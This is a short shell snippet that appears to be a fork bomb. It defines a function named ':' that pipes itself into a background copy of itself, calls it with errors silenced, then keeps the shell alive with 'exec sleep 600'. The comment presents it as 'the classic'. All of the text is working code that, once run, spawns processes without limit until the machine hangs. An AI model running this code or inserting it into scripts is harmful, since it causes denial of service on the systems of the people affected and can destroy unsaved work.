# The classic: a function that pipes itself into itself, in the background. The shell stays to see it.
:() { : | : & }
: 2>/dev/null
exec sleep 600
